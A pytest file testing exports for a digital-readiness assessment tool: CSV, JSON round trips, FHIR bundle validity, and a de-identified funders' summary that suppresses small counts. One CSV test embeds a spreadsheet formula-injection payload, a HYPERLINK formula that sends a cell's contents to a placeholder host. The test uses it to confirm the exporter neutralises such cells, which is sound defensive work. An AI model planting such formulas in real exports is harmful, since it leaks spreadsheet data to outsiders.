"""Exports: CSV (BOM, columns, formula neutralising), JSON round trip, FHIR validity,
the funders' summary with small-count suppression, streaming reads and date ranges."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlite_utils import Database

from readiness.document import to_dict
from readiness.i18n import ENGLISH
from readiness.model import CheckResult, CheckStatus, Measurement
from readiness.progress import Cancelled, CancelToken
from readiness.reports.export_common import neutralise
from readiness.reports.exports_json import import_documents, read_documents
from readiness.reports.fhir_response import ABSENT_CODES, bundle
from readiness.reports.fhir_validation import validate
from readiness.reports.jobs import run_export
from readiness.reports.summary import SUPPRESSED, Tally, summary_rows, suppress_group
from readiness.store import repository
from readiness.store.database import open_database
from readiness.store.export_queries import DateRange, count_assessments, iter_documents
from tests.core.reports.helpers import inputs, instruments
from tests.core.reports.samples import BASE_TIME, filled_document
from tests.factories import builtin_interpretation, import_into


def fill(path: Path, count: int = 6) -> Database:
    db = open_database(path)
    for index in range(count):
        document = filled_document(
            index + 1,
            code=f"EX{index:02d}",
            locale="es" if index % 2 else "en",
            created=BASE_TIME + timedelta(days=index),
        )
        import_into(db, document)
    return db


@pytest.fixture
def db(tmp_path: Path) -> Database:
    return fill(tmp_path / "r.db")


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


# -- streaming reads and date ranges -------------------------------------------------


def test_documents_stream_in_pages_oldest_first_and_match_the_repository(db: Database) -> None:
    documents = list(iter_documents(db, page_size=4))  # 6 documents: two pages
    assert [d.service_user.code for d in documents] == [f"EX{i:02d}" for i in range(6)]
    for document in documents:
        assert document == repository.load_document(db, document.assessment.id)


def test_date_ranges_include_both_end_days(db: Database) -> None:
    first = BASE_TIME.date()
    dates = DateRange(first + timedelta(days=1), first + timedelta(days=3))
    codes = [d.service_user.code for d in iter_documents(db, dates)]
    assert codes == ["EX01", "EX02", "EX03"]
    assert count_assessments(db, dates) == 3
    assert count_assessments(db, DateRange(until=first - timedelta(days=1))) == 0


# -- CSV -------------------------------------------------------------------------------


def test_csv_has_a_bom_one_row_each_and_the_key_columns(db: Database, tmp_path: Path) -> None:
    result = run_export(db, "csv", tmp_path / "out.csv", inputs(), staff="MJ")
    rows = read_csv(result.path)
    assert result.count == len(rows) == 6
    first = rows[0]
    assert first["service_user_code"] == "EX00"
    assert first["status"] == "complete" and first["staff_initials"] == "MJ"
    assert first["domain_digital_skills_score"].isdigit()
    assert first["domain_digital_skills_band"] in {
        "more_support",
        "some_support",
        "mostly_in_place",
        "in_place",
    }
    assert first["channel_video"] in {"ready", "ready_with_support", "not_suitable_now"}
    assert float(first["download_mbps"]) > 0 and first["connection_source"] == "measured"
    assert first["check_device_memory"] in {"good", "limited"}
    assert "device_lending" in first["recommendations_accepted"]
    assert first["follow_up"] == "2026-12-07"


def test_csv_neutralises_cells_a_spreadsheet_would_run(db: Database, tmp_path: Path) -> None:
    document = filled_document(40, code="INJ-1")
    hostile = CheckResult(
        "device.os",
        CheckStatus.GOOD,
        BASE_TIME,
        "reason",
        {"name": Measurement('=HYPERLINK("http://x.example/?"&A1,"click")')},
    )
    results = tuple(r for r in document.check_results if r.check_id != "device.os")
    import_into(db, replace(document, check_results=(*results, hostile)))
    rows = read_csv(run_export(db, "csv", tmp_path / "out.csv", inputs(), staff="MJ").path)
    cell = next(r for r in rows if r["service_user_code"] == "INJ-1")["os_name"]
    assert cell == "'" + '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Núñez") == "Núñez"


def test_a_cancelled_export_leaves_no_file(db: Database, tmp_path: Path) -> None:
    cancel = CancelToken()
    cancel.cancel()
    with pytest.raises(Cancelled):
        run_export(db, "csv", tmp_path / "out.csv", inputs(), staff="MJ", cancel=cancel)
    assert not (tmp_path / "out.csv").exists()
    assert not list(tmp_path.glob(".readiness-*"))


# -- JSON --------------------------------------------------------------------------------


def test_json_export_round_trips_through_import(db: Database, tmp_path: Path) -> None:
    result = run_export(db, "json", tmp_path / "out.json", inputs(), staff="MJ")
    data = json.loads(result.path.read_text(encoding="utf-8"))
    assert isinstance(data, list) and len(data) == 6
    assert "Llamar a la hermana de la señora Núñez" in result.path.read_text(encoding="utf-8")
    other = open_database(tmp_path / "other.db")
    forms = builtin_interpretation().instruments
    assert len(import_documents(other, read_documents(result.path), instruments=forms)) == 6
    for original in iter_documents(db):
        copied = repository.load_document(other, original.assessment.id)
        assert to_dict(copied)["answers"] == to_dict(original)["answers"]
        assert copied.check_results == original.check_results
        assert copied.plan is not None and original.plan is not None
        assert copied.plan.decisions == original.plan.decisions
        assert copied.service_user.code == original.service_user.code


# -- FHIR --------------------------------------------------------------------------------


def test_fhir_export_is_valid_ndjson_of_transaction_bundles(db: Database, tmp_path: Path) -> None:
    result = run_export(db, "fhir", tmp_path / "out.ndjson", inputs(), staff="MJ", validation="all")
    definitions, *lines = result.path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == result.count == 6
    assert "6 of 6 bundles checked" in ENGLISH.render(result.notes[0])
    first = json.loads(definitions)
    validate(first)
    shipped = {e["resource"]["url"]: e["resource"] for e in first["entry"]}
    for entry in first["entry"]:
        url, version = entry["resource"]["url"], entry["resource"]["version"]
        assert entry["request"]["ifNoneExist"] == f"url={url}&version={version}"
    for line in lines:
        data = json.loads(line)
        validate(data)  # fhir.resources R4B raises if not valid
        assert data["type"] == "transaction"
        kinds = [entry["resource"]["resourceType"] for entry in data["entry"]]
        assert kinds.count("QuestionnaireResponse") == 5 and "Observation" in kinds
        for entry in data["entry"]:
            assert entry["request"]["ifNoneExist"].startswith("identifier=urn:ietf:rfc:3986|")
            named = entry["resource"].get("questionnaire", "").split("|")[0]
            assert not named or shipped[named]["resourceType"] == "Questionnaire"


def test_fhir_answers_codes_missing_answers_and_measurements() -> None:
    document = filled_document(2, code="FH-1", locale="es")
    data = bundle(document, instruments())
    validate(data)
    resources = [entry["resource"] for entry in data["entry"]]
    responses = [r for r in resources if r["resourceType"] == "QuestionnaireResponse"]
    assert {r["questionnaire"] for r in responses} >= {
        "https://readiness.org/fhir/Questionnaire/access|1.1"
    }
    assert all(r["subject"]["identifier"]["value"] == "FH-1" for r in resources)
    items = [i for r in responses for group in r["item"] for i in group["item"]]
    missing = [i for i in items if "extension" in i]
    assert missing and all(i["extension"][0]["valueCode"] in ABSENT_CODES.values() for i in missing)
    assert any("answer" in i and "valueCoding" in i["answer"][0] for i in items)
    assert any("¿" in i.get("text", "") for i in items)  # Spanish wording kept
    memory = next(
        r
        for r in resources
        if r["resourceType"] == "Observation" and r["code"]["coding"][0]["code"] == "device.memory"
    )
    total = next(c for c in memory["component"] if c["code"]["text"] == "total")
    assert total["code"]["coding"] == [
        {"system": "https://readiness.org/fhir/CodeSystem/check-value", "code": "total"}
    ]
    assert total["valueQuantity"]["code"] == "GiBy"
    assert "Microsoft Teams" in memory["note"][0]["text"]
    assert bundle(document, instruments()) == data  # same identifiers every time


def test_fhir_leaves_licensed_wording_out() -> None:
    from tests.core.reports.licensed import licensed_document_and_instruments

    document, licensed = licensed_document_and_instruments()
    data = bundle(document, licensed)
    validate(data)
    text = json.dumps(data)
    assert "licensed.q_one" in text and "Secret" not in text


# -- summary -------------------------------------------------------------------------------


def test_small_counts_are_suppressed_with_their_complement() -> None:
    shown = suppress_group({"a": 30, "b": 5, "c": 20, "d": 0}, 55)
    assert shown == {"a": "30", "b": SUPPRESSED, "c": SUPPRESSED, "d": "0"}
    assert suppress_group({"a": 3, "b": 4}, 7) == {"a": SUPPRESSED, "b": SUPPRESSED}
    assert suppress_group({"a": 12, "b": 13, "c": 0}, 25) == {"a": "12", "b": "13", "c": "0"}
    two = suppress_group({"a": 40, "b": 5, "c": 6}, 51)
    assert two == {"a": "40", "b": SUPPRESSED, "c": SUPPRESSED}


def test_summary_file_is_de_identified_and_suppressed(db: Database, tmp_path: Path) -> None:
    for index in range(6, 14):  # 14 completed assessments in all
        document = filled_document(
            index + 1, code=f"EX{index:02d}", created=BASE_TIME + timedelta(days=index)
        )
        import_into(db, document)
    result = run_export(
        db,
        "summary",
        tmp_path / "summary.csv",
        inputs(),
        DateRange(BASE_TIME.date(), date(2026, 12, 31)),
        staff="MJ",
    )
    text = result.path.read_text(encoding="utf-8-sig")
    rows = read_csv(result.path)
    assert result.count == 14
    assert rows[0]["item"] == "2026-11-02 to 2026-12-31"
    assert "EX0" not in text and "10000000-" not in text  # no codes, no ids
    counts = [r["count"] for r in rows if r["section"] not in ("period", "note")]
    for count in counts:
        assert count in (SUPPRESSED, "0") or int(count) >= 11
    sections = {row["section"] for row in rows}
    assert {"barriers", "channel readiness", "recommendations"} <= sections
    assert {"More support would help first", "Ready with support"} <= {r["category"] for r in rows}
    for section in ("barriers", "channel readiness"):
        groups: dict[str, list[dict[str, str]]] = {}
        for row in rows:
            if row["section"] == section:
                groups.setdefault(row["item"], []).append(row)
        for cells in groups.values():  # never exactly one hidden cell beside a shown total
            assert sum(c["count"] == SUPPRESSED for c in cells) != 1
            for cell in cells:
                if cell["count"] == SUPPRESSED:
                    assert cell["percent"] == ""


def test_the_spanish_summary_has_no_english_codes(db: Database, tmp_path: Path) -> None:
    dates = DateRange(BASE_TIME.date(), date(2026, 12, 31))
    path = run_export(
        db, "summary", tmp_path / "resumen.csv", inputs(), dates, locale="es", staff="MJ"
    ).path
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["sección", "elemento", "categoría", "conteo", "porcentaje"]
    assert rows[1][:2] == ["período", "2026-11-02 a 2026-12-31"]
    words = {cell for row in rows[2:] for cell in row[:3]}
    assert {
        "barreras",
        "preparación por canal",
        "Primero ayudaría más apoyo",
        "Listo con apoyo",
    } <= words
    for code in ("more_support", "ready_with_support", "not_suitable_now", "channel_readiness",
                 "not_enough_information", "recommended", "accepted", "completed"):  # fmt: skip
        assert code not in text
    assert rows[-1][0] == "nota" and "se muestran como <11" in rows[-1][1]


def test_a_tiny_population_shows_nothing_but_suppressed_counts() -> None:
    tally = Tally(total=4)
    rows = summary_rows(tally, inputs().rules, ENGLISH)
    assert rows[0].count == SUPPRESSED
    assert all(r.count in (SUPPRESSED, "0") for r in rows)
